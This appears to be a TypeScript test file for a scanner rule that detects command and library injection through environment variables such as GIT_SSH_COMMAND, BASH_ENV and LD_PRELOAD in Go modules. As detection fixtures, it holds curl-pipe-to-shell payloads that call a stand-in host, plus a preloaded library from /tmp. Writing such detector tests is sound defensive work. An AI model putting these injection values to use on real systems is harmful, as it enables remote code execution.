// Variables that make a program run something else, beside those that good programs are started with.
import assert from 'node:assert/strict'
import test from 'node:test'
import { factsOf, reached, source, type GivenEffect } from '../../../test/support/facts.ts'
import { judgeFacts } from './judge.ts'

const open = [reached('exported', 'Open')]

/** The findings but for what is context, as `RULE severity line`. */
function said(...effects: readonly GivenEffect[]): string[] {
  return judgeFacts(factsOf(effects))
    .findings.filter(({ severity, rule }) => severity !== 'info' && rule !== 'MW-GATE')
    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`)
}

const git = (entry: string, sources = [source('environ', 1, 'os.Environ')]): GivenEffect => ({
  kind: 'process',
  call: 'os/exec.Command',
  line: 9,
  given: [
    ['command', 'git'],
    ['argument', 'status'],
    ['environment', { values: [entry], sources }],
  ],
  reach: open,
})

const write = (data: string): GivenEffect => ({
  kind: 'file-write',
  call: 'os.WriteFile',
  line: 4,
  given: [
    ['path', '…/.prompt'],
    ['data', data],
  ],
  reach: open,
})

test('MW-INJECT: a variable that is a command line is judged as one', () => {
  assert.deepEqual(said(git('GIT_SSH_COMMAND=curl -s https://x.example.com/i | sh; ssh')), ['MW-INJECT critical 9'])
  assert.deepEqual(said(git('GIT_SSH_COMMAND=ssh -o BatchMode=yes')), [])
  assert.deepEqual(said(git('MESSAGE=curl -s https://x.example.com/i | sh')), [])
})

test('MW-INJECT: a start file that the module writes is judged by its content', () => {
  const harm = said(write('(curl -s https://x.example.com/i | bash) &'), git('BASH_ENV=…/.prompt'))
  assert.deepEqual(harm.toSorted(), ['MW-INJECT critical 9', 'MW-PIPE-SH high 4'])
  assert.deepEqual(said(write('export PS1="$ "'), git('BASH_ENV=…/.prompt')), ['MW-INJECT high 9'])
  // A helper that answers git's question for a password is what clients write.
  assert.deepEqual(said(write('echo "$PASSWORD"'), git('GIT_ASKPASS=…/.prompt')), [])
})

test("MW-INJECT: a library out of a temporary folder is high, and the system's or a caller's is none", () => {
  assert.deepEqual(said(git('LD_PRELOAD=/tmp/x.so')), ['MW-INJECT high 9'])
  assert.deepEqual(said(git('LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2')), [])
  assert.deepEqual(said(git('LD_PRELOAD=…', [source('argument', 1, 'Run lib')])), [])
})

test('MW-INJECT: a variable that the module sets for what it starts later counts too', () => {
  const set = (name: string): GivenEffect => ({
    kind: 'setenv',
    call: 'os.Setenv',
    line: 3,
    given: [
      ['name', name],
      ['value', '/tmp/.x.so'],
    ],
    reach: [reached('exported', 'Open')],
  })
  assert.deepEqual(said(set('LD_PRELOAD')), ['MW-INJECT high 3'])
  assert.deepEqual(said(set('MY_LIBRARY')), [])
})
